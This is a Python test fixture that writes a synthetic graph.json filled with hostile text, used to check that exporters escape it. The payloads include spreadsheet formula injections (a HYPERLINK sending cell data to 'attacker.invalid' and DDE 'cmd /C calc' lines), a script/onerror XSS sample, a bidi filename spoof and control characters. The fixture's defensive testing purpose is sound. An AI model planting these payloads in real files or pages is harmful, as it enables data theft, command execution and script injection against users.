"""Text no output may be broken or turned into an attack by: one payload of every nasty character class.

:func:`hostile_store` writes a store whose ``graph.json`` (as a hand-edited or forged one would be, with
every character outside ASCII as a ``\\u`` escape) puts the payloads into every kind of text the exports
carry: node text, names, labels, list items, relationship properties and one node id. Synthetic text only.
"""

from __future__ import annotations

import json
from pathlib import Path

from tests.synthetic_graph import make_graph

#: name -> text; every character class an exporter or a spreadsheet may choke on or run
PAYLOADS: dict[str, str] = {
    "c0 controls": "nul\x00 bel\x07 bs\x08 vt\x0b ff\x0c esc\x1b[2J us\x1f end",
    "c1 controls": "del\x7f nel\x85 csi\x9b31m end",
    "noncharacters": "fffe\ufffe ffff\uffff plane16\U0010ffff fdd0\ufdd0 end",
    "lone surrogates": "high\ud800 low\udfff reversed\ude00\ud83d end",
    "bidi overrides": "rlo\u202egnp.exe lri\u2066x\u2069 rlm\u200f end",
    "zero width": "zw\u200bsp zwnj\u200c zwj\u200d wj\u2060 bom\ufeff end",
    "formula =": '=HYPERLINK("http://attacker.invalid/?q="&A1,"Click")',
    "formula +": "+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C notepad'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula cr": "\r=1+1",
    "formula after spaces": "   =1+1",
    "formula full-width": "\uff1d1+1",
    "cdata end": "a]]>b <![CDATA[c]]> d",
    "markup": '<script>alert(1)</script><img src=x onerror="alert(2)"> &amp; &#0; &#xFFFF; &lt;',
    "quotes": "double \" single ' back ` triple \"\"\" '''",
    "escapes": "back\\slash \\u0000 \\n %s {0} ${x} $math$ \\\\",
    "line breaks": "cr\rlf\ncrlf\r\nls\u2028ps\u2029 end",
    "emoji": "family \U0001f469\u200d\U0001f469\u200d\U0001f467 flag \U0001f3f3\ufe0f\u200d\U0001f308",
    "combining": "Zoe\u0301\u0308 a\u0336b\u0336 \u0e01\u0e34\u0e4a ligature \ufb01",
    "very long": "long " * 40_000,
}

#: the formula payloads (the cells a spreadsheet must not run)
FORMULAS = {k: v for k, v in PAYLOADS.items() if k.startswith("formula")}

#: the node id that holds a bad character (an id is text the exports write too)
BAD_ID = "agency:bad\uffff\x01id"

#: what a graph.json can carry: pydantic refuses a string holding a lone surrogate ("unable to parse raw data
#: as a unicode string"), so those reach an exporter only from a graph built in memory (see the tests)
STORABLE = {k: v for k, v in PAYLOADS.items() if k != "lone surrogates"}


def hostile_node_link() -> dict:
    """The synthetic graph's node-link data with the payloads in every kind of text it holds."""
    data = json.loads(make_graph().to_json())
    texts = list(STORABLE.values())
    k = 0

    def next_text() -> str:
        nonlocal k
        k += 1
        return texts[(k - 1) % len(texts)]

    for node in data["nodes"]:
        for key in ("text", "title", "name", "label", "lead", "owner", "applies_raw", "target_raw", "area"):
            if isinstance(node.get(key), str):
                node[key] = next_text()
        if isinstance(node.get("aliases"), list):
            node["aliases"] = [next_text(), next_text()]
        if isinstance(node.get("alt_labels"), list):
            node["alt_labels"] = list(STORABLE.values())
    for link in data["links"]:
        if "evidence" in link:
            link["evidence"] = next_text()
    old = "agency:wellbeing-hub"
    for node in data["nodes"]:
        if node["id"] == old:
            node["id"] = BAD_ID
    for link in data["links"]:
        for end in ("source", "target"):
            if link[end] == old:
                link[end] = BAD_ID
    return data


def hostile_store(folder: Path) -> Path:
    """A store holding only a ``graph.json`` of :func:`hostile_node_link` (written as ASCII, ``\\u`` escapes)."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "graph.json").write_text(json.dumps(hostile_node_link(), ensure_ascii=True), encoding="ascii")
    return folder
